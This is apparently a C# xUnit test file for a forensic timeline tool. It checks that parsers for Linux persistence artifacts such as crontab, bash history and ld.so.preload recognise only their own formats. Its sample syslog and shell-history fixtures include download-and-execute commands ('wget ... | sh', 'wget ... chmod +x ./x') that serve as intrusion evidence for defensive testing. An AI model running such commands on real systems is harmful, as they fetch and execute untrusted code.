using Timeline.Core.Ingest;
using Timeline.Parsers.Linux.BashHistory;
using Timeline.Parsers.Linux.Persistence.AuthorizedKeys;
using Timeline.Parsers.Linux.Persistence.Crontab;
using Timeline.Parsers.Linux.Persistence.LdPreload;
using Timeline.Parsers.Linux.Persistence.RcLocal;
using Timeline.Parsers.Linux.Persistence.SystemdUnit;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Parsers.Linux.Persistence;

/// <summary>The parsers for files without a syslog envelope must leave each other's files, and syslog, alone.</summary>
public sealed class HostlessSniffingTests
{
    private static readonly ILogParser[] Hostless =
    [
        new BashHistoryParser(), new CrontabParser(), new AuthorizedKeysParser(),
        new SystemdUnitParser(), new RcLocalParser(), new LdPreloadParser(),
    ];

    private const string Syslog = """
        Mar  2 03:15:02 web01 sshd[2211]: Accepted password for root from 203.0.113.45 port 40112 ssh2
        Mar  2 03:15:02 web01 sshd[2211]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)
        Mar  2 03:16:01 web01 CRON[4242]: (root) CMD (wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1)
        Mar  2 03:16:01 web01 cron[812]: (root) RELOAD (crontabs/root)
        Mar  2 03:17:01 web01 crontab[2210]: (root) REPLACE (root)
        2024-03-02T03:15:02.481913+00:00 web01 sudo: ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/bin/wget http://203.0.113.9/x

        """;

    public static TheoryData<string> Samples()
    {
        var data = new TheoryData<string>();
        foreach (var parser in Hostless)
        {
            var folder = Path.Combine(RepoPaths.SampleLogs, parser.Name);
            foreach (var file in Directory.GetFiles(folder).Where(f => !f.EndsWith(".jsonl", StringComparison.Ordinal) && !f.EndsWith(".json", StringComparison.Ordinal) && !f.EndsWith(".md", StringComparison.Ordinal)).Order(StringComparer.Ordinal))
                data.Add(RepoPaths.Relative(file));
        }
        return data;
    }

    [Theory]
    [MemberData(nameof(Samples))]
    public void EachSampleIsClaimedOnlyByItsOwnParser(string sample)
    {
        var folder = Path.GetDirectoryName(sample)!.Replace('\\', '/')["sample-logs/".Length..];
        var full = Path.Combine(RepoPaths.Root, sample);
        var head = FormatDetector.Sample(EvidenceSource.FromBytes(sample, File.ReadAllBytes(full), DateTimeOffset.UnixEpoch));
        var owner = Hostless.Single(p => p.Name == folder);
        var ownScore = owner.Sniff(head);

        Assert.True(ownScore > 0, $"{owner.Name} does not claim its own sample {sample}");
        foreach (var other in Hostless.Where(p => p != owner))
            Assert.True(other.Sniff(head) < ownScore, $"{other.Name} scores {other.Sniff(head)} on {sample}, {owner.Name} only {ownScore}");
    }

    [Theory]
    [InlineData("/var/log/auth.log")]
    [InlineData("/var/log/syslog")]
    [InlineData("/etc/crontab")]
    [InlineData("/etc/rc.local")]
    [InlineData("/root/.bash_history")]
    [InlineData("/etc/ld.so.preload")]
    public void NoneClaimsASyslogFileWhateverItsName(string path)
    {
        var head = Sniffing.Sample(path, Syslog);

        foreach (var parser in Hostless) Assert.Equal(0, parser.Sniff(head));
    }

    [Fact]
    public void PlainHistoryScoresAreCappedBelowGrammarFormats()
    {
        var head = Sniffing.Sample("/root/.bash_history", "ls\ncd /tmp\nwget http://203.0.113.9/x\nchmod +x x\n./x\n");

        var score = new BashHistoryParser().Sniff(head);

        Assert.InRange(score, 50, 62);
    }

    [Fact]
    public void TimestampedHistoryIsClaimedWithHighConfidenceByContentAlone()
    {
        var head = Sniffing.Sample("evidence/file0007", "#1709349302\nw\n#1709349305\nfoo --bar\n");

        Assert.Equal(95, new BashHistoryParser().Sniff(head));
    }

    [Fact]
    public void ProseIsNotHistory()
    {
        var head = Sniffing.Sample("notes.txt", "The server was slow on Monday.\nWe restarted it twice.\nThen it was fine.\n");

        Assert.Equal(0, new BashHistoryParser().Sniff(head));
    }
}
